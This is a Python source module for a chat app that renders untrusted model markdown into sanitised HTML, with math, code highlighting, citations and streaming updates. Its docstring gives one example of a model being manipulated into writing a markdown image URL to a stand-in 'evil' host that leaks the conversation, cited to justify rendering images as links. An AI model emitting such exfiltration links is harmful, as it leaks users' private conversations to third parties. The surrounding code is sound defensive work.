"""Markdown -> safe HTML: the one renderer for every message, title preview and export.

CommonMark with tables, strikethrough, bare-URL links (linkify), task lists, footnotes and
math (`$…$`, `$$…$$`, `\\(…\\)`, `\\[…\\]`, `\\begin{align}…`), raw HTML disabled, fenced
code highlighted by Pygments (CSS classes, no inline styles), then an allow-list sanitiser
(nh3) over the result. The sanitiser is the last word: whatever the parser lets through,
no `on*`, `hx-*`, `ws-*`, `style` or `id` attribute and no script-capable element survives.

Math is typeset here, on the server, to MathML (latex2mathml): browsers render MathML Core
natively, so no client-side renderer and no relaxed CSP. LaTeX that does not convert is
shown as code. Model headings are demoted two levels (`#` -> h3) so they never compete
with the page's own headings. Links open in a new tab with rel="noopener noreferrer nofollow".

Images are rendered as links: a model can be talked into writing `![](https://evil/?q=...)`
to leak the conversation through an image fetch, and a link needs a click.

Text is rendered as a list of top-level blocks (`render_blocks`). The page wraps code
blocks in its own chrome (language label, Copy button) from a template, and the streaming
view (`StreamRender`) renders each completed block once and only re-renders the last,
still-open one: both paths cut the text at the same block boundaries, so a streamed answer
ends up exactly as a reload shows it.
"""

from __future__ import annotations

import re
import xml.etree.ElementTree as ElementTree
from dataclasses import dataclass
from functools import lru_cache

import nh3
from markupsafe import Markup, escape

from .artifacts import Artifact, artifact_kind, too_large
from .markdown_links import speed_up as speed_up_linkify

MATHML_TAGS = {
    "math",
    "mrow",
    "mi",
    "mn",
    "mo",
    "ms",
    "mtext",
    "mspace",
    "msub",
    "msup",
    "msubsup",
    "mfrac",
    "msqrt",
    "mroot",
    "munder",
    "mover",
    "munderover",
    "mtable",
    "mtr",
    "mtd",
    "mstyle",
    "mpadded",
    "mphantom",
    "menclose",
    "semantics",
    "annotation",
    "mmultiscripts",
    "mprescripts",
    "none",
}
# Presentation attributes only: nothing that links (href, xlink:href), runs (on*), styles
# (style, mathcolor) or names (id) anything.
MATHML_ATTRIBUTES = {
    "display",
    "mathvariant",
    "stretchy",
    "fence",
    "separator",
    "lspace",
    "rspace",
    "accent",
    "accentunder",
    "columnalign",
    "rowspacing",
    "columnspacing",
    "displaystyle",
    "scriptlevel",
    "minsize",
    "maxsize",
    "movablelimits",
    "linethickness",
    "symmetric",
    "largeop",
    "width",
    "height",
    "depth",
    "notation",
    "encoding",
}
ALLOWED_TAGS = {
    "a",
    "p",
    "br",
    "hr",
    "strong",
    "em",
    "del",
    "s",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "section",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "span",
    "div",
    "sup",
    "sub",
} | MATHML_TAGS
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title", "class"},
    "code": {"class"},
    "pre": {"class"},
    "span": {"class"},
    "div": {"class"},
    "ul": {"class"},
    "li": {"class"},
    "sup": {"class"},
    "section": {"class"},
    "ol": {"start"},
    "th": {"class"},
    "td": {"class"},
    **{tag: MATHML_ATTRIBUTES for tag in MATHML_TAGS},
}
URL_SCHEMES = {"http", "https", "mailto"}

# The demotion of model headings: `#` becomes h3 under the page's h1 and h2.
HEADING_SHIFT = 2

# `\(…\)` inline, `\[…\]` inline (display) and as a block, in the rule format of
# mdit_py_plugins.texmath (its own "brackets" rules share token names with dollarmath).
_BRACKET_INLINE = [
    {
        "name": "bracket_math_inline",
        "rex": re.compile(r"^\\\((.+?)\\\)", re.DOTALL),
        "tmpl": "",
        "tag": "\\(",
    },
    {
        "name": "bracket_math_display",
        "rex": re.compile(r"^\\\[(.+?)\\\]", re.DOTALL),
        "tmpl": "",
        "tag": "\\[",
    },
]
_BRACKET_BLOCK = {
    "name": "bracket_math_block",
    "rex": re.compile(r"^\\\[([\s\S]+?)\\\]\s*$", re.MULTILINE),
    "tmpl": "",
    "tag": "\\[",
}


@dataclass(frozen=True)
class Block:
    """One top-level block of rendered markdown: sanitised HTML, and for code its language."""

    html: Markup
    kind: str = "text"  # "code" for a fenced or indented code block
    lang: str = ""
    # For a closed fence that previews (numi.artifacts): its kind, and "artifact_too_large"
    # in `refused` when it is over the preview limit.
    artifact: str = ""
    refused: str = ""


@lru_cache(maxsize=1)
def _parser():
    from markdown_it import MarkdownIt
    from mdit_py_plugins.amsmath import amsmath_plugin
    from mdit_py_plugins.dollarmath import dollarmath_plugin
    from mdit_py_plugins.footnote import footnote_plugin
    from mdit_py_plugins.tasklists import tasklists_plugin
    from mdit_py_plugins.texmath.index import make_block_func, make_inline_func

    md = MarkdownIt("commonmark", {"html": False, "linkify": True, "highlight": _highlight})
    md.enable(["table", "strikethrough", "linkify"])
    speed_up_linkify(md.linkify)
    # Footnotes stay where they are written and references are matched without their
    # definition, so no block's rendering depends on text that comes after it.
    md.use(footnote_plugin, inline=False, move_to_end=False, always_match_refs=True)
    md.use(tasklists_plugin)
    # No blank lines inside $$…$$ (as in LaTeX and GitHub): a block ends at a blank line.
    md.use(dollarmath_plugin, allow_labels=False, allow_blank_lines=False, double_inline=True)
    md.use(amsmath_plugin)
    for rule in _BRACKET_INLINE:
        md.inline.ruler.before("escape", rule["name"], make_inline_func(rule))
    md.block.ruler.before(
        "fence", _BRACKET_BLOCK["name"], _with_map(make_block_func(_BRACKET_BLOCK))
    )
    # One rendering per place, whatever the delimiters: inline, displayed inside a
    # paragraph (a span: a div cannot sit in a <p>), displayed as a block.
    for name, place in (
        ("math_inline", "inline"),
        ("bracket_math_inline", "inline"),
        ("math_inline_double", "display"),
        ("bracket_math_display", "display"),
        ("math_block", "block"),
        ("bracket_math_block", "block"),
        ("amsmath", "block"),
    ):
        md.add_render_rule(name, lambda self, t, i, o, e, place=place: _mathml(t[i].content, place))
    md.core.ruler.push("numi_markup", _adjust_tokens)
    md.add_render_rule("image", _image_as_link)
    md.add_render_rule("footnote_ref", _footnote_ref)
    md.add_render_rule("footnote_reference_open", _footnote_open)
    md.add_render_rule("footnote_reference_close", lambda self, t, i, o, e: "</div>\n")
    return md


def _with_map(rule):
    """texmath's block rule sets no source lines on its token; the block splitter needs them."""

    def wrapped(state, start_line, end_line, silent):
        first = len(state.tokens)
        matched = rule(state, start_line, end_line, silent)
        if matched and not silent:
            for token in state.tokens[first:]:
                token.map = token.map or [start_line, state.line]
        return matched

    return wrapped


_ALIGN = re.compile(r"text-align:(left|center|right)")
_TASK_BOX = {
    False: '<span class="task-box">☐</span>',
    True: '<span class="task-box checked">☑</span>',
}


def _adjust_tokens(state) -> None:
    """Headings demoted, table alignment as classes (no style attribute: CSP), task-list
    checkboxes as inert marks (no form controls in model output)."""
    for token in state.tokens:
        if token.type in ("heading_open", "heading_close"):
            token.tag = f"h{min(6, int(token.tag[1]) + HEADING_SHIFT)}"
        elif token.type in ("th_open", "td_open"):
            match = _ALIGN.search(str(token.attrGet("style") or ""))
            token.attrs.pop("style", None)
            if match:
                token.attrSet("class", "align-" + match.group(1))
        elif token.type == "inline" and token.children:
            for child in token.children:
                if (
                    child.type == "html_inline"
                    and 'class="task-list-item-checkbox"' in child.content
                ):
                    child.content = _TASK_BOX["checked=" in child.content]


def _image_as_link(self, tokens, idx, options, env):
    token = tokens[idx]
    alt = self.renderInlineAsText(token.children or [], options, env) or "image"
    src = token.attrGet("src") or ""
    return f'<a href="{escape(src)}">[image: {escape(alt)}]</a>'


# Footnote links name their note by label (#fn-<label>, and #fnref-<label> back): ids are
# not kept by the sanitiser (a message must not name elements of the page), so the page
# finds the note or the reference in the same message (static/js/app.js).
def _footnote_ref(self, tokens, idx, options, env):
    label = escape(tokens[idx].meta["label"])
    return f'<sup class="footnote-ref"><a href="#fn-{label}" title="Footnote {label}">[{label}]</a></sup>'


def _footnote_open(self, tokens, idx, options, env):
    label = escape(tokens[idx].meta["label"])
    return (
        f'<div class="footnote"><span class="footnote-label">[{label}]</span>'
        f'<a class="footnote-back" href="#fnref-{label}" title="Back to the text">↩'
        '<span class="visually-hidden"> back to the text</span></a>\n'
    )


@lru_cache(maxsize=512)
def _mathml(latex: str, place: str) -> str:
    """LaTeX -> MathML (`place`: inline, display or block); LaTeX that does not convert is
    shown as code."""
    from latex2mathml.converter import convert

    try:
        mathml = convert(latex.strip(), display="inline" if place == "inline" else "block")
        # latex2mathml copies \text{…} verbatim: a round trip through an XML parser
        # rejects what is not well-formed and escapes the text of what is.
        tree = ElementTree.fromstring(mathml)
        for element in tree.iter():
            element.tag = element.tag.rsplit("}", 1)[-1]
        _typeset(tree, display=place != "inline")
        mathml = ElementTree.tostring(tree, encoding="unicode", short_empty_elements=False)
    except Exception:  # noqa: BLE001 - any failure of the converter means "not valid LaTeX"
        if place == "block":
            return f'<pre class="math-error"><code>{escape(latex.strip())}</code></pre>\n'
        return f'<code class="math-error">{escape(latex)}</code>'
    if place == "block":
        return f'<div class="math-block">{mathml}</div>\n'
    return f'<span class="math-display">{mathml}</span>' if place == "display" else mathml


# Operators whose limits go under and over them in display math and beside them inline, as
# in TeX: MathML's movablelimits does both from one markup, so a sub/superscript of one
# becomes an under/over script (latex2mathml writes scripts for inline math).
LIMIT_OPERATORS = set("∑∏∐⋂⋃⨀⨁⨂⨄⨆⋀⋁") | {"lim", "max", "min", "sup", "inf", "det", "gcd", "Pr"}
INTEGRALS = set("∫∬∭∮∯∰⨌")
SCRIPTS_AS_LIMITS = {"msub": "munder", "msup": "mover", "msubsup": "munderover"}


def _typeset(tree, display: bool) -> None:
    """MathML's own attributes for what TeX does by itself: display math in display style,
    limits of ∑ and lim movable (under and over when displayed), integrals large when
    displayed. Brackets of \\left…\\right come stretchy from latex2mathml."""
    if display:
        tree.set("displaystyle", "true")
    for element in tree.iter():
        text = (element.text or "").strip()
        if element.tag == "mo" and text in INTEGRALS:
            # Large in display style, limits beside it. Not stretchy: Chromium then sizes
            # it to its own scripts, smaller than the display size.
            element.set("largeop", "true")
            element.set("movablelimits", "false")
            continue
        base = element[0] if len(element) else None
        limits = SCRIPTS_AS_LIMITS.get(element.tag, element.tag)
        if (
            base is not None
            and base.tag == "mo"
            and (base.text or "").strip() in LIMIT_OPERATORS
            and limits in SCRIPTS_AS_LIMITS.values()
        ):
            element.tag = limits
            base.set("movablelimits", "true")
            if len(base.text.strip()) == 1:  # ∑, not lim: a large operator
                base.set("largeop", "true")


@lru_cache(maxsize=64)
def _lexer(name: str):
    # Looking a lexer up scans the installed plugins: once per language, not per code block.
    from pygments.lexers import get_lexer_by_name
    from pygments.util import ClassNotFound

    try:
        return get_lexer_by_name(name, stripall=False)
    except ClassNotFound:
        return None


@lru_cache(maxsize=1)
def _formatter():
    from pygments.formatters import HtmlFormatter

    return HtmlFormatter(nowrap=True, classprefix="hl-")


def _highlight(code: str, lang: str, _attrs) -> str:
    from pygments import highlight

    lexer = _lexer(lang.strip().split()[0][:40]) if lang.strip() else None
    if lexer is None:
        return ""  # markdown-it escapes and wraps the code itself
    body = highlight(code, lexer, _formatter())
    language = escape(lexer.aliases[0] if lexer.aliases else "")
    return f'<pre class="code"><code class="language-{language}">{body}</code></pre>'


@lru_cache(maxsize=1)
def _cleaner() -> nh3.Cleaner:
    # Built once: converting the allow-lists on every call costs more than the cleaning.
    return nh3.Cleaner(
        tags=ALLOWED_TAGS,
        attributes=ALLOWED_ATTRIBUTES,
        url_schemes=URL_SCHEMES,
        link_rel="noopener noreferrer nofollow",
        set_tag_attribute_values={"a": {"target": "_blank"}},
        strip_comments=True,
    )


def sanitize(html: str) -> str:
    """Run the allow-list sanitiser over HTML that may hold untrusted parts."""
    return _cleaner().clean(html)


def highlight_css() -> str:
    """The Pygments stylesheet for the classes `render_markdown` emits."""
    from pygments.formatters import HtmlFormatter

    return HtmlFormatter(classprefix="hl-", style="default").get_style_defs(".code")


# --- blocks --------------------------------------------------------------------------------


def _groups(tokens) -> list[tuple[int, int, int]]:
    """Top-level blocks as (first token, end token, first source line)."""
    groups, start, depth = [], None, 0
    for index, token in enumerate(tokens):
        if depth == 0:
            start = index
        depth += token.nesting
        if depth == 0 and start is not None:
            line = tokens[start].map[0] if tokens[start].map else (groups[-1][2] if groups else 0)
            groups.append((start, index + 1, line))
            start = None
    return groups


def _render_group(md, tokens, env) -> Block:
    html = Markup(sanitize(md.renderer.render(tokens, md.options, env)))
    first = tokens[0]
    if len(tokens) == 1 and first.type in ("fence", "code_block"):
        lang = first.info.strip().split()[0] if first.type == "fence" and first.info.strip() else ""
        found = _artifact(first)
        if found is None:
            return Block(html, "code", lang[:40])
        return Block(html, "code", lang[:40], artifact=found.kind, refused=found.refused)
    return Block(html)


def _fence_closed(token) -> bool:
    # markdown-it maps an unclosed fence to the end of the text: a closed one spans its
    # content's lines plus the two fence lines.
    content = token.content
    lines = content.count("\n") + (1 if content and not content.endswith("\n") else 0)
    return bool(token.map) and token.map[1] - token.map[0] >= lines + 2


def _artifact(token) -> Artifact | None:
    """The artifact of a top-level fence token: None while its closing fence has not
    arrived, or when its language does not preview."""
    if token.type != "fence" or not token.info.strip() or not _fence_closed(token):
        return None
    lang = token.info.strip().split()[0][:40]
    kind = artifact_kind(lang, token.content)
    if not kind:
        return None
    if too_large(token.content):
        return Artifact(kind, lang, "", refused="artifact_too_large")
    return Artifact(kind, lang, token.content)


def artifacts(text: str | None) -> list[Artifact]:
    """The artifacts of a message's markdown, in the order the page shows their blocks
    (top-level closed fences only, as `render_blocks` marks them); none past the markdown
    cap, where the page shows plain text."""
    if not text or len(text) > markdown_cap():
        return []
    found = []
    for token in _parser().parse(text, {}):
        if token.level == 0 and token.type == "fence":
            artifact = _artifact(token)
            if artifact is not None:
                found.append(artifact)
    return found


def _parse(text: str, env: dict):
    md = _parser()
    tokens = md.parse(text, env)
    return md, tokens, _groups(tokens)


def render_blocks(
    text: str | None, sources: list | None = None, *, cap: int | None = None
) -> list[Block]:
    """Render untrusted markdown as its list of top-level blocks (see `Block`); `sources`
    link citation markers [n] (see `cite`); `cap` is the markdown cap (`markdown_cap()` by
    default: pass it when calling outside the app's context, e.g. in a threadpool)."""
    if not text:
        return []
    if len(text) > (markdown_cap() if cap is None else cap):
        # Parsing is CPU on the hub: a 2 MB message froze every user for 33 s on each view
        # (issue 28, item 5). Past the cap the text is shown as it is, escaped.
        return [plain_block(text)]
    if sources:
        text = cite(text, sources)
    env: dict = {}
    md, tokens, groups = _parse(text, env)
    return [_render_group(md, tokens[a:b], env) for a, b, _ in groups]


DEFAULT_MARKDOWN_MAX_CHARS = 100_000


def plain_block(text: str) -> Block:
    """Text shown as it is, escaped: what is past the markdown cap."""
    return Block(
        html=Markup('<pre class="msg-plain">') + escape(text) + Markup("</pre>"), kind="plain"
    )


def markdown_cap() -> int:
    """The longest text rendered as markdown (NUMI_MARKDOWN_MAX_CHARS in an app, else the default)."""
    from flask import current_app, has_app_context

    if has_app_context():
        return int(current_app.config.get("NUMI_MARKDOWN_MAX_CHARS", DEFAULT_MARKDOWN_MAX_CHARS))
    return DEFAULT_MARKDOWN_MAX_CHARS


def render_markdown(text: str | None) -> Markup:
    """Render untrusted markdown to HTML that is safe to insert into any page."""
    return Markup("".join(block.html for block in render_blocks(text)))


# A citation marker as the model writes it: "[3]", not part of a link, a reference
# definition, an index expression (a[3]) or a footnote.
_CITATION = re.compile(r"(?<![\w\]\[`!^])\[(\d{1,3})\](?![(\[:])")


def cite(text: str, sources: list | None) -> str:
    """Each citation marker [n] whose source has an http(s) URL becomes a markdown link to
    it, so the sanitiser sees it like any other link."""
    urls = {}
    for index, source in enumerate(sources or (), 1):
        if isinstance(source, dict) and isinstance(source.get("url"), str):
            url = source["url"]
            if url.lower().startswith(("http://", "https://")) and not any(
                c in url for c in " <>()"
            ):
                urls[str(source.get("n") or index)] = url
    if text and urls:
        text = _CITATION.sub(
            lambda m: f"[[{m.group(1)}]]({urls[m.group(1)]})" if m.group(1) in urls else m.group(0),
            text,
        )
    return text


# --- streaming -----------------------------------------------------------------------------

# A line opening display math. Math that is still open can close later and take in the
# lines (even blocks) after it, so a block holding such a line stays open.
_MATH_OPENING = re.compile(r"^ {0,3}(\\\[|\\begin\{|\$\$)", re.MULTILINE)
_MATH_CLOSERS = {"\\[": "\\]", "\\begin{": "\\end{", "$$": "$$"}
_SETTLED_TOKENS = {"math_block", "amsmath", "bracket_math_block", "fence", "code_block"}


def _math_left_open(source: str) -> bool:
    """Whether a line of `source` opens display math that does not close after it."""
    return any(
        source.find(_MATH_CLOSERS[match.group(1)], match.end()) < 0
        for match in _MATH_OPENING.finditer(source)
    )


class StreamRender:
    """The render state of one streaming text (an answer or its reasoning).

    `feed(text)` takes the whole text so far and answers a `Frame`: the blocks completed
    since the last call (rendered once, never again) and the still-open tail rendered as
    blocks. A block is complete when a later top-level block has started on a finished
    line: from then on nothing written later can change it (CommonMark never reopens a
    closed block), except reference-link definitions, which are handled by re-rendering
    the completed blocks once when the definitions change (`Frame.reset`). Work per call
    is proportional to the open tail, not to the whole text. Line breaks must be "\n"
    (the view normalises them), so that lines count as the parser counts them.
    """

    def __init__(self, cap: int | None = None):
        self.offset = 0  # where the open tail starts in the text
        self.references: dict = {}  # link reference definitions in the completed part
        self.rendered_with: dict = {}  # the definitions the completed blocks were rendered with
        self.blocks: list[Block] = []  # completed blocks
        self.open: list[Block] = []
        self.cap = cap  # the markdown cap (markdown_cap() at the first feed when None)
        self.plain = False  # past the cap: the text is shown as it is
        self.parsed_tail = 0  # the open tail's length at the last parse
        self.cached: dict[str, Block] = {}  # closed groups of the tail, by their source
        self.cached_with: dict = {}  # the definitions they were rendered with

    def feed(self, text: str) -> "Frame":
        if self.cap is None:
            self.cap = markdown_cap()
        if self.plain or len(text) > self.cap:
            return self._feed_plain(text)
        tail = text[self.offset :]
        if len(tail) > self.LAZY_TAIL_CHARS and len(tail) < self.parsed_tail * 1.25:
            # A long open block (a big code fence, say) re-parsed on every delta costs
            # quadratic time on the hub: re-parsed once it has grown by a quarter.
            return Frame([], None)
        self.parsed_tail = len(tail)
        env = {"references": dict(self.references)}
        md, tokens, groups = _parse(tail, env)
        lines = tail.split("\n")
        finished_lines = len(lines) - 1  # the last line has no newline yet
        commit = 0  # how many groups are complete
        for index in range(1, len(groups)):
            if groups[index][2] >= finished_lines:
                break
            first, start = tokens[groups[index - 1][0]], groups[index - 1][2]
            if first.type not in _SETTLED_TOKENS and _math_left_open(
                "\n".join(lines[start : groups[index][2]])
            ):
                break  # math opened but not closed yet: a later line may still close it
            commit = index
        definitions = env["references"]
        rendered = self._rendered_groups(md, tokens, groups, lines, env)
        new_blocks, self.open = rendered[:commit], rendered[commit:]
        reset = False
        if commit:
            done_lines = groups[commit][2]
            done = "\n".join(lines[:done_lines]) + "\n"
            # The definitions in the completed part, without the open tail's (still typed).
            if "]:" in done:
                done_env = {"references": dict(self.references)}
                _parser().parse(done, done_env)
                self.references = done_env["references"]
            self.offset += len(done)
            self.parsed_tail = len(text) - self.offset
        if definitions != self.rendered_with:
            # A new (or still changing) reference definition may change earlier blocks.
            self.rendered_with = definitions
            reset = bool(self.blocks)
        if reset:
            env = {"references": dict(definitions)}
            md, tokens, groups = _parse(text[: self.offset], env)
            self.blocks = [_render_group(md, tokens[a:b], env) for a, b, _ in groups]
            return Frame(list(self.blocks), self.open, reset=True)
        self.blocks.extend(new_blocks)
        return Frame(new_blocks, self.open, reset=False)

    def _rendered_groups(self, md, tokens, groups, lines, env) -> list[Block]:
        """The tail's groups rendered; a group followed by another (so closed) is rendered
        once for its source lines and the definitions, not again on every delta."""
        if env["references"] != self.cached_with:
            self.cached, self.cached_with = {}, dict(env["references"])
        cache, self.cached = self.cached, {}
        out = []
        for index, (a, b, line) in enumerate(groups):
            after = groups[index + 1][2] if index + 1 < len(groups) else None
            if after is None or after <= line or tokens[a].map is None:
                out.append(_render_group(md, tokens[a:b], env))
                continue
            key = "\n".join(lines[line:after])
            block = cache.get(key)
            if block is None:
                block = _render_group(md, tokens[a:b], env)
            self.cached[key] = block
            out.append(block)
        return out

    # An open tail longer than this is re-parsed only once it has grown by a quarter.
    LAZY_TAIL_CHARS = 8192

    # An open line longer than this is committed anyway: the open part is re-sent each delta.
    PLAIN_OPEN_CHARS = 4096

    def _feed_plain(self, text: str) -> "Frame":
        """Past the cap, as a saved message past it shows: escaped text, no markdown (a
        huge open block re-parsed on every delta costs quadratic time on the hub; issue 28,
        item 5). Finished lines are committed as they come; each frame carries only the
        new lines and the open one."""
        cut = text.rfind("\n", self.offset) + 1
        if len(text) - max(cut, self.offset) > self.PLAIN_OPEN_CHARS:
            cut = len(text)
        reset = not self.plain
        if reset:
            # First time past the cap: the text so far replaces the markdown blocks.
            self.plain, self.offset = True, 0
        done = text[self.offset : cut] if cut > self.offset else ""
        new_blocks = [plain_block(done)] if done else []
        self.offset = max(self.offset, cut)
        self.open = [plain_block(text[self.offset :])] if len(text) > self.offset else []
        if reset:
            self.blocks = new_blocks
            return Frame(list(self.blocks), self.open, reset=True)
        self.blocks.extend(new_blocks)
        return Frame(new_blocks, self.open, reset=False)


@dataclass
class Frame:
    """What changed in one `StreamRender.feed`: `completed` blocks to append (or, with
    `reset`, to replace all completed blocks with) and the `open` blocks to show after them
    (None: unchanged)."""

    completed: list[Block]
    open: list[Block] | None  # None: the open blocks shown are unchanged
    reset: bool = False
